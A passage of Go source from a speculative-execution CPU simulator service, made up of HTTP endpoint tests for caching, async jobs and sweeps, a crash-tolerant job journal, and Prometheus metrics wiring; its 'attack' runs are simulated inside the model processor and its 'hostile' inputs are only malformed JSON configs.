	_, ts := newTestServer(t)
	cfg := core.DefaultConfig()

	fig9, err := core.RunFig9(cfg)
	if err != nil {
		t.Fatal(err)
	}
	n1, n2, n3, err := core.RunFig10(cfg)
	if err != nil {
		t.Fatal(err)
	}
	defense, err := core.RunDefense(cfg)
	if err != nil {
		t.Fatal(err)
	}

	for _, tc := range []struct {
		driver string
		want   any
	}{
		{"fig9", fig9},
		{"fig10", Fig10Response{N1: n1, N2: n2, N3: n3}},
		{"defense", defense},
	} {
		want, err := Encode(tc.want)
		if err != nil {
			t.Fatal(err)
		}
		code, hdr, body := do(t, "POST", ts.URL+"/v1/run/"+tc.driver, "{}")
		if code != http.StatusOK {
			t.Fatalf("%s: status %d: %s", tc.driver, code, body)
		}
		if hdr.Get("X-Cache") != "MISS" {
			t.Errorf("%s: first request X-Cache = %q, want MISS", tc.driver, hdr.Get("X-Cache"))
		}
		if !bytes.Equal(body, want) {
			t.Errorf("%s: endpoint body differs from driver encoding (%d vs %d bytes)", tc.driver, len(body), len(want))
		}
	}
}

func TestRunWithParams(t *testing.T) {
	_, ts := newTestServer(t)
	// Fig. 11 setup expressed through the generic attack endpoint: secret
	// 127 planted beyond the ROB.  base64("\x7f") = "fw==".
	body := `{"params": {"secret": "fw==", "nop_pad": 300}}`
	code, _, got := do(t, "POST", ts.URL+"/v1/run/attack", body)
	if code != http.StatusOK {
		t.Fatalf("attack: status %d: %s", code, got)
	}
	p := attack.DefaultParams()
	p.Secret = []byte{127}
	p.NopPad = 300
	res, err := core.RunAttack(core.DefaultConfig(), p)
	if err != nil {
		t.Fatal(err)
	}
	want, err := Encode(res)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatal("attack endpoint body differs from driver encoding")
	}
	var decoded attack.Result
	if err := json.Unmarshal(got, &decoded); err != nil {
		t.Fatal(err)
	}
	if v, ok := decoded.LeakedByte(); !ok || v != 127 {
		t.Fatalf("leaked byte = %d/%v, want 127", v, ok)
	}
}

func TestRunErrors(t *testing.T) {
	_, ts := newTestServer(t)
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/nope", "{}"); code != http.StatusNotFound {
		t.Fatalf("unknown driver: %d %s", code, body)
	}
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", `{"confg": {}}`); code != http.StatusBadRequest {
		t.Fatalf("typo field: %d %s", code, body)
	}
	if code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", `{"config": {"rob_sz": 1}}`); code != http.StatusBadRequest {
		t.Fatalf("typo config field: %d %s", code, body)
	}
	// Hostile documents degrade into 400s, never into simulator panics.
	for _, body := range []string{
		`{"config": {"rob_size": -1}}`,
		`{"config": {"mem": {"l1d": {"size": -4096}}}}`,
		`{"params": {"probe_stride": 3}}`,
		`{"params": {"training_rounds": -5}}`,
		`{"params": {"secret": ""}}`,
	} {
		if code, _, resp := do(t, "POST", ts.URL+"/v1/run/fig9", body); code != http.StatusBadRequest {
			t.Fatalf("hostile body %s: %d %s", body, code, resp)
		}
	}
	// The server is still alive and serving after the hostile inputs.
	if code, _, _ := do(t, "GET", ts.URL+"/healthz", ""); code != http.StatusOK {
		t.Fatal("server died after hostile input")
	}
}

// TestCacheHit is the acceptance criterion: a repeated identical request is
// served from the cache — byte-identical body, hit counted in /v1/stats,
// and no second simulation.
func TestCacheHit(t *testing.T) {
	_, ts := newTestServer(t)
	code1, hdr1, body1 := do(t, "POST", ts.URL+"/v1/run/fig9", "{}")
	code2, hdr2, body2 := do(t, "POST", ts.URL+"/v1/run/fig9", "{}")
	if code1 != 200 || code2 != 200 {
		t.Fatalf("status %d / %d", code1, code2)
	}
	if hdr1.Get("X-Cache") != "MISS" || hdr2.Get("X-Cache") != "HIT" {
		t.Fatalf("X-Cache %q then %q, want MISS then HIT", hdr1.Get("X-Cache"), hdr2.Get("X-Cache"))
	}
	if !bytes.Equal(body1, body2) {
		t.Fatal("cached body differs from computed body")
	}

	_, _, statsBody := do(t, "GET", ts.URL+"/v1/stats", "")
	var stats StatsResponse
	if err := json.Unmarshal(statsBody, &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Simulations != 1 {
		t.Fatalf("simulations = %d, want 1 (second request must not re-simulate)", stats.Simulations)
	}
	if stats.Cache.Hits != 1 || stats.Cache.Misses != 1 {
		t.Fatalf("cache stats = %+v, want 1 hit / 1 miss", stats.Cache)
	}
	if stats.Version == "" || stats.UptimeSeconds < 0 {
		t.Fatalf("stats metadata: %+v", stats)
	}
	// An equivalent config spelled explicitly normalizes onto the same key,
	// and so does an explicit zero ("use the default") — resolve() runs the
	// normalized machine, so the shared key always names the simulated config.
	for _, body := range []string{`{"config": {"rob_size": 256}}`, `{"config": {"rob_size": 0}}`} {
		_, hdr3, _ := do(t, "POST", ts.URL+"/v1/run/fig9", body)
		if hdr3.Get("X-Cache") != "HIT" {
			t.Fatalf("normalized-equivalent request %s X-Cache = %q, want HIT", body, hdr3.Get("X-Cache"))
		}
	}
	// A different machine misses.
	_, hdr4, _ := do(t, "POST", ts.URL+"/v1/run/fig9", `{"config": {"rob_size": 128}}`)
	if hdr4.Get("X-Cache") != "MISS" {
		t.Fatalf("different config X-Cache = %q, want MISS", hdr4.Get("X-Cache"))
	}
}

// TestSingleflight is the second acceptance criterion: concurrent identical
// requests trigger exactly one simulation.
func TestSingleflight(t *testing.T) {
	_, ts := newTestServer(t)
	const n = 8
	bodies := make([][]byte, n)
	var wg sync.WaitGroup
	for i := 0; i < n; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			code, _, body := do(t, "POST", ts.URL+"/v1/run/fig9", "{}")
			if code != http.StatusOK {
				t.Errorf("request %d: status %d", i, code)
			}
			bodies[i] = body
		}(i)
	}
	wg.Wait()
	for i := 1; i < n; i++ {
		if !bytes.Equal(bodies[0], bodies[i]) {
			t.Fatalf("request %d body differs", i)
		}
	}
	_, _, statsBody := do(t, "GET", ts.URL+"/v1/stats", "")
	var stats StatsResponse
	if err := json.Unmarshal(statsBody, &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Simulations != 1 || stats.Cache.Misses != 1 {
		t.Fatalf("%d simulations / %d misses for %d concurrent identical requests, want exactly 1",
			stats.Simulations, stats.Cache.Misses, n)
	}
	if got := stats.Cache.Hits + stats.Cache.Dedups; got != n-1 {
		t.Fatalf("hits+dedups = %d, want %d", got, n-1)
	}
}

func TestSweepEndpoint(t *testing.T) {
	_, ts := newTestServer(t)
	spec := `{"mode": "ipc", "rob": [64], "runahead": ["none", "original"], "workloads": ["mcf"]}`
	code, _, body := do(t, "POST", ts.URL+"/v1/sweep", spec)
	if code != http.StatusOK {
		t.Fatalf("sweep: %d %s", code, body)
	}
	var res SweepResult
	if err := json.Unmarshal(body, &res); err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 2 {
		t.Fatalf("rows = %d, want 2", len(res.Rows))
	}
	for _, row := range res.Rows {
		if row["error"] != "" || row["cycles"] == nil {
			t.Fatalf("bad row: %v", row)
		}
	}
	// Identical spec → cache hit.
	_, hdr, body2 := do(t, "POST", ts.URL+"/v1/sweep", spec)
	if hdr.Get("X-Cache") != "HIT" || !bytes.Equal(body, body2) {
		t.Fatalf("repeated sweep: X-Cache=%q identical=%v", hdr.Get("X-Cache"), bytes.Equal(body, body2))
	}
	// Validation failures are 400s.
	if code, _, body := do(t, "POST", ts.URL+"/v1/sweep", `{"mode": "nope"}`); code != http.StatusBadRequest {
		t.Fatalf("bad mode: %d %s", code, body)
	}
	if code, _, body := do(t, "POST", ts.URL+"/v1/sweep", `{"secrets": [300], "mode": "attack"}`); code != http.StatusBadRequest {
		t.Fatalf("bad secret: %d %s", code, body)
	}
}

// pollJob polls a job until it reaches a terminal status.
func pollJob(t *testing.T, url string, id string) JobView {
	t.Helper()
	deadline := time.Now().Add(60 * time.Second)
	for {
		code, _, body := do(t, "GET", url+"/v1/jobs/"+id, "")
		if code != http.StatusOK {
			t.Fatalf("job get: %d %s", code, body)
		}
		var v JobView
		if err := json.Unmarshal(body, &v); err != nil {
			t.Fatal(err)
		}
		if v.Status != JobRunning && v.Status != JobPending {
			return v
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s still %s after deadline (progress %+v)", id, v.Status, v.Progress)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestJobLifecycle(t *testing.T) {
	_, ts := newTestServer(t)
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "fig9"}`)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var v JobView
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatal(err)
	}
	if v.ID == "" || v.Kind != "fig9" {
		t.Fatalf("submitted job: %+v", v)
	}

	done := pollJob(t, ts.URL, v.ID)
	if done.Status != JobDone || done.Error != "" {
		t.Fatalf("job finished %s (%s)", done.Status, done.Error)
	}
	// The async result must be byte-identical to the synchronous endpoint's.
	_, _, want := do(t, "POST", ts.URL+"/v1/run/fig9", "{}")
	code, _, raw := do(t, "GET", ts.URL+"/v1/jobs/"+v.ID+"/result", "")
	if code != http.StatusOK || !bytes.Equal(raw, want) {
		t.Fatalf("job result endpoint: status %d, byte-identical %v", code, bytes.Equal(raw, want))
	}
	// The embedded copy carries the same document (re-indented by nesting).
	var fromJob, fromRun any
	if err := json.Unmarshal(done.Result, &fromJob); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(want, &fromRun); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(fromJob, fromRun) {
		t.Fatal("embedded job result differs from synchronous endpoint document")
	}

	// And the job populated the shared cache: the POST above was a hit.
	_, _, statsBody := do(t, "GET", ts.URL+"/v1/stats", "")
	var stats StatsResponse
	if err := json.Unmarshal(statsBody, &stats); err != nil {
		t.Fatal(err)
	}
	if stats.Simulations != 1 {
		t.Fatalf("simulations = %d, want 1 (sync request must reuse the job's result)", stats.Simulations)
	}
	if stats.Jobs.Submitted != 1 || stats.Jobs.Done != 1 {
		t.Fatalf("job stats: %+v", stats.Jobs)
	}

	// Listing includes the job without its (potentially large) result.
	_, _, listBody := do(t, "GET", ts.URL+"/v1/jobs", "")
	var list []JobView
	if err := json.Unmarshal(listBody, &list); err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || len(list[0].Result) != 0 {
		t.Fatalf("job list: %d entries, result %d bytes", len(list), len(list[0].Result))
	}

	if code, _, _ := do(t, "GET", ts.URL+"/v1/jobs/nope", ""); code != http.StatusNotFound {
		t.Fatalf("unknown job: %d", code)
	}
}

func TestJobCancel(t *testing.T) {
	_, ts := newTestServer(t)
	// A 256-point attack grid takes long enough that the immediate DELETE
	// lands mid-run; running points finish, queued points never start.
	secrets := make([]string, 256)
	for i := range secrets {
		secrets[i] = fmt.Sprint(i)
	}
	spec := `{"sweep": {"mode": "attack", "secrets": [` + strings.Join(secrets, ",") + `], "runahead": ["original"]}}`
	code, _, body := do(t, "POST", ts.URL+"/v1/jobs", spec)
	if code != http.StatusAccepted {
		t.Fatalf("submit: %d %s", code, body)
	}
	var v JobView
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatal(err)
	}
	code, _, body = do(t, "DELETE", ts.URL+"/v1/jobs/"+v.ID, "")
	if code != http.StatusOK {
		t.Fatalf("cancel: %d %s", code, body)
	}
	final := pollJob(t, ts.URL, v.ID)
	if final.Status != JobCancelled {
		t.Fatalf("status after cancel = %s, want %s", final.Status, JobCancelled)
	}

	// Bad submissions are rejected synchronously.
	if code, _, _ := do(t, "POST", ts.URL+"/v1/jobs", `{"driver": "nope"}`); code != http.StatusBadRequest {
		t.Fatalf("unknown driver job: %d", code)
	}
	if code, _, _ := do(t, "POST", ts.URL+"/v1/jobs", `{"sweep": {"mode": "bad"}}`); code != http.StatusBadRequest {
		t.Fatalf("bad sweep job: %d", code)
	}
	if code, _, _ := do(t, "DELETE", ts.URL+"/v1/jobs/nope", ""); code != http.StatusNotFound {
		t.Fatalf("cancel unknown job: %d", code)
	}
}

// TestJobStoreBounded: finished jobs (and their result payloads) are
// evicted past the cap; running jobs survive and lifetime accounting holds.
func TestJobStoreBounded(t *testing.T) {
	s := newJobStore()
	noCtx := func() (context.Context, context.CancelFunc) { return context.WithCancel(context.Background()) }
	runningID := s.create("sweep", JobRequest{})
	if lj, ok := s.leaseNext(time.Now(), noCtx); !ok || lj.id != runningID {
		t.Fatalf("lease of first job: %+v %v", lj, ok)
	}
	for i := 0; i < maxJobs+50; i++ {
		id := s.create("fig9", JobRequest{})
		lj, ok := s.leaseNext(time.Now(), noCtx)
		if !ok || lj.id != id {
			t.Fatalf("lease %d: %+v %v", i, lj, ok)
		}
		s.finish(id, lj.attempt, "", []byte(`{}`), "", false)
	}
	if n := len(s.list()); n > maxJobs {
		t.Fatalf("store holds %d jobs, bound is %d", n, maxJobs)
	}
	if _, ok := s.get(runningID); !ok {
		t.Fatal("running job was evicted")
	}
	if st := s.stats(); st.Submitted != maxJobs+51 {
		t.Fatalf("lifetime submitted = %d, want %d", st.Submitted, maxJobs+51)
	}
}

// TestRunMatchesCLIEncoding pins the shared-encoder contract without
// spawning the CLI: Run + Encode is what both the HTTP handler and
// `specrun <fig> --format json` execute.
func TestRunMatchesCLIEncoding(t *testing.T) {
	_, ts := newTestServer(t)
	res, err := Run(context.Background(), "fig9", core.DefaultConfig(), attack.DefaultParams(), 0)
	if err != nil {
		t.Fatal(err)
	}
	want, err := Encode(res)
	if err != nil {
		t.Fatal(err)
	}
	_, _, got := do(t, "POST", ts.URL+"/v1/run/fig9", "")
	if !bytes.Equal(got, want) {
		t.Fatal("Run+Encode differs from endpoint body")
	}
}
