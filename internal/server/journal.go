package server

import (
	"bufio"
	"encoding/json"
	"log/slog"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"time"

	"specrun/internal/faultinject"
)

// Journal record types.  The job journal is an append-only JSONL file: one
// self-describing record per lifecycle transition, replayed at startup to
// rebuild the job table.  A record is never rewritten in place; compaction
// (at open, before any new appends) rewrites the whole file from the
// replayed state via tmp+rename.
const (
	recSubmit    = "submit"    // job accepted; carries kind + the full request
	recLease     = "lease"     // attempt n started
	recRetry     = "retry"     // attempt n failed; next lease no earlier than Next
	recDone      = "done"      // terminal success; result by cache Key and/or inline
	recFailed    = "failed"    // terminal failure
	recCancelled = "cancelled" // terminal user cancel
)

// journalRecord is one JSONL line.  Timestamps are UnixMilli so zero values
// omit cleanly.  Result is []byte (base64 on the wire), NOT json.RawMessage:
// Marshal compacts embedded raw JSON, which would break the byte-identity
// guarantee for results restored across a restart.
type journalRecord struct {
	T       string          `json:"t"`
	Job     string          `json:"job"`
	At      int64           `json:"at,omitempty"`      // transition time, UnixMilli
	Kind    string          `json:"kind,omitempty"`    // submit
	Req     json.RawMessage `json:"req,omitempty"`     // submit
	Attempt int             `json:"attempt,omitempty"` // lease / retry
	Error   string          `json:"error,omitempty"`   // retry / failed
	Next    int64           `json:"next,omitempty"`    // retry: earliest next lease, UnixMilli
	Key     string          `json:"key,omitempty"`     // done: rescache content address
	Result  []byte          `json:"result,omitempty"`  // done: inline result (base64), bounded
}

// journalInlineResultMax bounds inline result payloads in done records.
// Results above the bound are persisted only through the disk cache tier
// (the done record keeps the content-address key); below it, the journal
// alone can restore the result even if the cache evicted it.
const journalInlineResultMax = 512 << 10

// journal is the append-only job-lifecycle log.  All methods are safe for
// concurrent use.  Write failures never propagate to request paths: they
// are logged and counted (durability is degraded, service is not).
type journal struct {
	mu     sync.Mutex
	f      *os.File
	path   string
	logger *slog.Logger

	records   atomic.Uint64 // records appended this process
	writeErrs atomic.Uint64 // failed appends/fsyncs
}

// openJournal reads the journal at path (tolerating a torn final line —
// the expected signature of kill -9 mid-append) and opens it for append.
// The returned records are in append order.
func openJournal(path string, logger *slog.Logger) (*journal, []journalRecord, error) {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return nil, nil, err
	}
	var recs []journalRecord
	if raw, err := os.Open(path); err == nil {
		sc := bufio.NewScanner(raw)
		sc.Buffer(make([]byte, 0, 64<<10), 16<<20)
		for sc.Scan() {
			line := sc.Bytes()
			if len(line) == 0 {
				continue
			}
			var r journalRecord
			if err := json.Unmarshal(line, &r); err != nil || r.T == "" || r.Job == "" {
				// A torn or foreign line: skip it.  Only the final line can
				// legitimately be torn; anything else is logged for the
				// operator but never blocks startup.
				logger.Warn("journal: skipping unparseable record", "path", path, "error", err)
				continue
			}
			recs = append(recs, r)
		}
		raw.Close()
		if err := sc.Err(); err != nil {
			logger.Warn("journal: scan ended early", "path", path, "error", err)
		}
	} else if !os.IsNotExist(err) {
		return nil, nil, err
	}
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return nil, nil, err
	}
	return &journal{f: f, path: path, logger: logger}, recs, nil
}

// append writes one record, optionally fsyncing (terminal and submit
// records fsync so a kill -9 cannot lose an acknowledged transition; lease
// and retry records do not — losing one only costs a redundant re-run).
func (j *journal) append(r journalRecord, sync bool) {
	if j == nil {
		return
	}
	line, err := json.Marshal(r)
	if err != nil {
		j.fail("marshal", err)
		return
	}
	line = append(line, '\n')
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.f == nil {
		return
	}
	if err := faultinject.Err(faultinject.JournalWrite); err != nil {
		j.fail("write", err)
		return
	}
	if _, err := j.f.Write(line); err != nil {
		j.fail("write", err)
		return
	}
	j.records.Add(1)
	if sync {
		if err := faultinject.Err(faultinject.Fsync); err != nil {
			j.fail("fsync", err)
			return
		}
		if err := j.f.Sync(); err != nil {
			j.fail("fsync", err)
		}
	}
}

func (j *journal) fail(op string, err error) {
	j.writeErrs.Add(1)
	j.logger.Warn("journal: "+op+" failed; durability degraded for this record", "path", j.path, "error", err)
}

// rewrite atomically replaces the journal with recs (compaction): tmp file,
// fsync, rename, reopen for append.  On any failure the existing journal is
// kept and appends continue onto it.
func (j *journal) rewrite(recs []journalRecord) error {
	if j == nil {
		return nil
	}
	tmp := j.path + ".tmp"
	f, err := os.OpenFile(tmp, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		return err
	}
	w := bufio.NewWriter(f)
	for _, r := range recs {
		line, err := json.Marshal(r)
		if err != nil {
			f.Close()
			os.Remove(tmp)
			return err
		}
		w.Write(line)
		w.WriteByte('\n')
	}
	if err := w.Flush(); err == nil {
		err = f.Sync()
	}
	if cerr := f.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		os.Remove(tmp)
		return err
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	if err := os.Rename(tmp, j.path); err != nil {
		os.Remove(tmp)
		return err
	}
	old := j.f
	nf, err := os.OpenFile(j.path, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		// The rename succeeded but reopening failed: keep appending to the
		// (renamed-over) old handle is wrong, so drop to non-durable.
		j.f = nil
		old.Close()
		return err
	}
	j.f = nf
	old.Close()
	return nil
}

func (j *journal) close() {
	if j == nil {
		return
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	if j.f != nil {
		j.f.Close()
		j.f = nil
	}
}

// nowMilli is the journal's clock granularity.
func nowMilli(t time.Time) int64 {
	if t.IsZero() {
		return 0
	}
	return t.UnixMilli()
}
