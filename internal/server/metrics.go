package server

import (
	"net/http"
	"runtime"
	"strconv"
	"time"

	"specrun/internal/core"
	"specrun/internal/cpu"
	"specrun/internal/difftest"
	"specrun/internal/faultinject"
	"specrun/internal/metrics"
	"specrun/internal/rescache"
)

// serverMetrics is the instrument set behind GET /metrics.  Request-path
// instruments (the vecs and the gate-wait histogram) are updated inline;
// everything the service already counts elsewhere — cache stats, pool
// stats, job stats, the global simulated-cycle counter — is exported via
// scrape-time callbacks instead of duplicating state.
type serverMetrics struct {
	reg         *metrics.Registry
	httpReqs    *metrics.CounterVec
	httpDur     *metrics.HistogramVec
	jobsTotal   *metrics.CounterVec
	programSubs *metrics.CounterVec
	gateWait    *metrics.Histogram
}

func newServerMetrics(s *Server) *serverMetrics {
	r := metrics.NewRegistry()
	m := &serverMetrics{
		reg: r,
		httpReqs: r.NewCounterVec("specrun_http_requests_total",
			"HTTP requests served, by route pattern, method and status code.",
			"route", "method", "code"),
		httpDur: r.NewHistogramVec("specrun_http_request_duration_seconds",
			"HTTP request latency by route pattern.",
			metrics.DefBuckets, "route"),
		jobsTotal: r.NewCounterVec("specrun_jobs_total",
			"Async jobs that reached a terminal state, by driver kind and outcome.",
			"kind", "status"),
		programSubs: r.NewCounterVec("specrun_program_submissions_total",
			"Interchange programs submitted (POST /v1/run/program and program jobs), by input format (asm/binary) and outcome (ok/invalid/error).",
			"format", "outcome"),
		gateWait: r.NewHistogram("specrun_gate_wait_seconds",
			"Time simulations spent queued for a worker token (uncontended acquires are not observed).",
			metrics.DefBuckets),
	}

	r.CounterFunc("specrun_simulations_total",
		"Driver/sweep executions actually run (cache misses).",
		s.simulations.Load)
	r.CounterFunc("specrun_http_requests_served_total",
		"All HTTP requests, including unrouted 404s.",
		s.requests.Load)

	r.GaugeFunc("specrun_jobs_running",
		"Async jobs currently executing.",
		func() float64 { return float64(s.jobs.stats().Running) })
	r.GaugeFunc("specrun_jobs_pending",
		"Async jobs queued (submitted, awaiting a lease, or backing off before a retry).",
		func() float64 { return float64(s.jobs.stats().Pending) })
	r.CounterFunc("specrun_job_retries_total",
		"Failed job attempts re-queued under the retry policy.",
		func() uint64 { return s.jobs.stats().Retries })
	r.CounterFunc("specrun_job_lease_expiries_total",
		"Job leases reclaimed by the watchdog after the holder stopped reporting progress.",
		func() uint64 { return s.jobs.stats().LeaseExpiries })
	r.CounterFunc("specrun_journal_records_total",
		"Job-journal records appended this process.",
		func() uint64 { n, _ := s.jobs.journalCounters(); return n })
	r.CounterFunc("specrun_journal_write_errors_total",
		"Job-journal appends or fsyncs that failed (durability degraded for those records).",
		func() uint64 { _, n := s.jobs.journalCounters(); return n })
	r.GaugeFunc("specrun_sse_streams_active",
		"Server-sent-event job streams currently open (GET /v1/jobs/{id}/events).",
		func() float64 { return float64(s.sseActive.Load()) })

	r.CounterFunc("specrun_cache_hits_total",
		"Result-cache lookups answered from memory.",
		func() uint64 { return s.cache.Stats().Hits })
	r.CounterFunc("specrun_cache_misses_total",
		"Result-cache lookups that ran the simulation.",
		func() uint64 { return s.cache.Stats().Misses })
	r.CounterFunc("specrun_cache_evictions_total",
		"Result-cache entries dropped by the LRU bound.",
		func() uint64 { return s.cache.Stats().Evictions })
	r.CounterFunc("specrun_cache_singleflight_merges_total",
		"Concurrent identical requests coalesced onto one in-flight simulation.",
		func() uint64 { return s.cache.Stats().Dedups })
	r.GaugeFunc("specrun_cache_entries",
		"Result-cache entries currently resident.",
		func() float64 { return float64(s.cache.Stats().Entries) })

	// Disk-tier instruments read zero until AttachDisk succeeds; the
	// degraded gauge flips to 1 when a configured disk tier failed to
	// attach and the cache fell back to memory only.
	disk := func(f func(*rescache.DiskStats) uint64) func() uint64 {
		return func() uint64 {
			if d := s.cache.Stats().Disk; d != nil {
				return f(d)
			}
			return 0
		}
	}
	r.CounterFunc("specrun_cache_disk_hits_total",
		"Result-cache lookups served from the disk tier.",
		disk(func(d *rescache.DiskStats) uint64 { return d.Hits }))
	r.CounterFunc("specrun_cache_disk_misses_total",
		"Disk-tier probes that found no entry.",
		disk(func(d *rescache.DiskStats) uint64 { return d.Misses }))
	r.CounterFunc("specrun_cache_disk_writes_total",
		"Entries persisted to the disk tier.",
		disk(func(d *rescache.DiskStats) uint64 { return d.Writes }))
	r.CounterFunc("specrun_cache_disk_write_errors_total",
		"Disk-tier writes that failed (entry stays memory-only).",
		disk(func(d *rescache.DiskStats) uint64 { return d.WriteErrors }))
	r.CounterFunc("specrun_cache_disk_read_errors_total",
		"Disk-tier reads that failed (served as misses).",
		disk(func(d *rescache.DiskStats) uint64 { return d.ReadErrors }))
	r.CounterFunc("specrun_cache_disk_quarantined_total",
		"Disk-tier entries moved to quarantine after a checksum mismatch.",
		disk(func(d *rescache.DiskStats) uint64 { return d.Quarantined }))
	r.CounterFunc("specrun_cache_disk_evictions_total",
		"Disk-tier entries evicted by the size bound.",
		disk(func(d *rescache.DiskStats) uint64 { return d.Evictions }))
	r.GaugeFunc("specrun_cache_disk_bytes",
		"Bytes resident in the disk tier.",
		func() float64 {
			if d := s.cache.Stats().Disk; d != nil {
				return float64(d.Bytes)
			}
			return 0
		})
	r.GaugeFunc("specrun_cache_disk_entries",
		"Entries resident in the disk tier.",
		func() float64 {
			if d := s.cache.Stats().Disk; d != nil {
				return float64(d.Entries)
			}
			return 0
		})
	r.GaugeFunc("specrun_cache_disk_degraded",
		"1 when a configured disk cache failed to attach and the server fell back to memory only.",
		func() float64 {
			if d := s.cache.Stats().Disk; d != nil && d.Degraded {
				return 1
			}
			return 0
		})

	r.CounterFunc("specrun_faults_injected_total",
		"Fault-injection points fired (0 unless SPECRUN_FAULTS enables the chaos harness).",
		faultinject.Fired)

	r.GaugeFunc("specrun_gate_capacity",
		"Server-wide simulation worker budget.",
		func() float64 { return float64(s.gate.Cap()) })
	r.GaugeFunc("specrun_gate_in_flight",
		"Worker tokens currently held by running simulations.",
		func() float64 { return float64(s.gate.InFlight()) })
	r.GaugeFunc("specrun_gate_queued",
		"Simulations blocked waiting for a worker token.",
		func() float64 { return float64(s.gate.Queued()) })

	r.CounterFunc("specrun_machine_pool_hits_total",
		"Simulations that recycled a warm pooled machine.",
		func() uint64 { return core.MachinePoolStats().Hits })
	r.CounterFunc("specrun_machine_pool_misses_total",
		"Simulations that built a machine from scratch.",
		func() uint64 { return core.MachinePoolStats().Misses })
	r.CounterFunc("specrun_machine_pool_evictions_total",
		"Per-configuration machine pools dropped by the LRU bound.",
		func() uint64 { return core.MachinePoolStats().Evictions })
	r.CounterFunc("specrun_difftest_runner_evictions_total",
		"Differential-oracle worker-cache machines dropped.",
		difftest.RunnerEvictions)

	r.CounterFunc("specrun_sim_cycles_total",
		"Processor cycles simulated across every machine in the process.",
		cpu.SimCyclesTotal)

	r.GaugeFunc("go_goroutines",
		"Live goroutines.",
		func() float64 { return float64(runtime.NumGoroutine()) })
	r.GaugeFunc("go_memstats_heap_inuse_bytes",
		"Bytes in in-use heap spans.",
		func() float64 {
			var ms runtime.MemStats
			runtime.ReadMemStats(&ms)
			return float64(ms.HeapInuse)
		})
	r.GaugeFunc("specrun_uptime_seconds",
		"Seconds since the server started.",
		func() float64 { return time.Since(s.start).Seconds() })

	s.gate.OnWait(func(d time.Duration) { m.gateWait.Observe(d.Seconds()) })
	return m
}

// handleMetrics serves the registry in Prometheus text exposition format.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
	s.metrics.reg.WritePrometheus(w)
}

// statusRecorder captures the status code a handler wrote (200 if it only
// ever called Write).
type statusRecorder struct {
	http.ResponseWriter
	status int
}

func (r *statusRecorder) WriteHeader(code int) {
	if r.status == 0 {
		r.status = code
	}
	r.ResponseWriter.WriteHeader(code)
}

func (r *statusRecorder) Write(b []byte) (int, error) {
	if r.status == 0 {
		r.status = http.StatusOK
	}
	return r.ResponseWriter.Write(b)
}

// Flush forwards to the underlying writer when it supports streaming.  The
// embedded interface does not promote Flusher, and without this the SSE
// handler's type assertion would fail behind the metrics middleware.
func (r *statusRecorder) Flush() {
	if fl, ok := r.ResponseWriter.(http.Flusher); ok {
		fl.Flush()
	}
}

// handle mounts fn on mux instrumented with per-route metrics and request
// logging.  The pattern string itself is the route label — Go's ServeMux
// does not expose the matched pattern to middleware wrapped around it, so
// instrumentation happens per registration, keeping label cardinality fixed
// at the route table instead of unbounded request paths.
func (s *Server) handle(mux *http.ServeMux, pattern string, fn http.HandlerFunc) {
	mux.HandleFunc(pattern, func(w http.ResponseWriter, r *http.Request) {
		start := time.Now()
		rec := &statusRecorder{ResponseWriter: w}
		fn(rec, r)
		if rec.status == 0 {
			rec.status = http.StatusOK
		}
		elapsed := time.Since(start)
		s.metrics.httpReqs.With(pattern, r.Method, strconv.Itoa(rec.status)).Inc()
		s.metrics.httpDur.With(pattern).Observe(elapsed.Seconds())
		attrs := []any{
			"method", r.Method,
			"path", r.URL.Path,
			"route", pattern,
			"status", rec.status,
			"duration_ms", float64(elapsed.Microseconds()) / 1000,
		}
		if cache := rec.Header().Get("X-Cache"); cache != "" {
			attrs = append(attrs, "cache", cache)
		}
		if id := r.PathValue("id"); id != "" {
			attrs = append(attrs, "job", id)
		}
		s.logger.Info("request", attrs...)
	})
}
