package server

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"testing"
	"time"

	"specrun/internal/difftest"
	"specrun/internal/leak"
	"specrun/internal/sweep"
)

func TestFuzzEndpointMatchesDriver(t *testing.T) {
	_, ts := newTestServer(t)
	spec := difftest.CampaignSpec{Seeds: 3, Matrix: "quick"}
	body, _ := json.Marshal(FuzzRequest{CampaignSpec: spec})
	code, hdr, got := do(t, "POST", ts.URL+"/v1/run/fuzz", string(body))
	if code != http.StatusOK {
		t.Fatalf("fuzz: %d %s", code, got)
	}
	if hdr.Get("X-Cache") != "MISS" {
		t.Fatalf("first campaign X-Cache = %q, want MISS", hdr.Get("X-Cache"))
	}
	rep, err := difftest.Run(context.Background(), spec, sweep.Options{})
	if err != nil {
		t.Fatal(err)
	}
	want, err := Encode(rep)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("endpoint body differs from direct campaign:\n%s\nvs\n%s", got, want)
	}
	// Identical spec: served from the content-addressed cache.
	code, hdr, got2 := do(t, "POST", ts.URL+"/v1/run/fuzz", string(body))
